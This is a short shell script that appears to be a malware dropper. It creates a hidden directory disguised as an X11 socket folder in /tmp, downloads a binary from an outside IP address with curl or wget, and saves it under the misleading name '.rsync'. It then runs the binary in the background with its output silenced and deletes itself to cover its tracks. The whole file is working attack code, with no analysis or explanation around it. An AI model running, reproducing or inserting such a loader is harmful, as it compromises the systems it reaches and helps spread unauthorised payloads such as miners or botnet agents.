#!/bin/sh
cd /tmp || cd /var/tmp || cd /dev/shm
mkdir -p /tmp/.X25-unix && cd /tmp/.X25-unix
if command -v curl >/dev/null; then
  curl -s -o /tmp/.X25-unix/.rsync http://198.51.100.23:8080/bins/x86_64
else
  wget -q -O /tmp/.X25-unix/.rsync http://198.51.100.23:8080/bins/x86_64
fi
chmod +x /tmp/.X25-unix/.rsync
nohup /tmp/.X25-unix/.rsync -c /tmp/.X25-unix/.cfg >/dev/null 2>&1 &
rm -f "$0"
